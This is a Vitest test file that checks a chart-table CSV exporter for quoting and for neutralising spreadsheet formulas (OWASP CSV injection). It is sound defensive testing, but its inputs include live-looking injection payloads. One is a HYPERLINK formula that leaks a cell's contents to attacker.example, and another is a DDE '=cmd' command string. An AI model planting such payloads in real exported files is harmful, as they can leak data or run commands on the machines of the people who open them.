import { describe, expect, it } from 'vitest';
import { cell, csvField, tableToCsv } from '../../src/charts/chartTable.ts';

describe('tableToCsv', () => {
  it('writes raw values, quotes what needs quoting, keeps suppressed text', () => {
    const csv = tableToCsv({
      columns: [
        { key: 'name', label: 'Name' },
        { key: 'n', label: 'Customers, all', numeric: true },
      ],
      rows: [
        [cell('say "hi"'), cell('1,200', 1200)],
        [cell('<img src=x>'), cell('< 5', '< 5')],
        [cell('none'), cell('–', null)],
      ],
    });
    expect(csv).toBe('Name,"Customers, all"\r\n"say ""hi""",1200\r\n<img src=x>,< 5\r\nnone,\r\n');
  });
});

describe('csvField: formulas are neutralised (OWASP CSV injection)', () => {
  it.each([
    [
      '=HYPERLINK("http://attacker.example/?leak="&A1,"x")',
      `"'=HYPERLINK(""http://attacker.example/?leak=""&A1,""x"")"`,
    ],
    ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
    ['+1+cmd', "'+1+cmd"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['-2+3+cmd', "'-2+3+cmd"],
    ['\t=1', "'\t=1"],
    ['\r=1', `"'\r=1"`],
  ])('%j becomes %j', (input, expected) => {
    expect(csvField(input)).toBe(expected);
  });

  it.each(['-12.5', '-3', '-1e5', '0', 'plain', '< 5', ''])('%j stays as it is', (input) => {
    expect(csvField(input)).toBe(input);
  });

  it('a whole table: labels and cells alike, negative numbers untouched', () => {
    const csv = tableToCsv({
      columns: [
        { key: 'step', label: '=step' },
        { key: 'change', label: 'change', numeric: true },
      ],
      rows: [[cell("=cmd|' /C calc'!A0"), cell('-4.2%', -4.2)]],
    });
    expect(csv).toBe("'=step,change\r\n'=cmd|' /C calc'!A0,-4.2\r\n");
  });
});
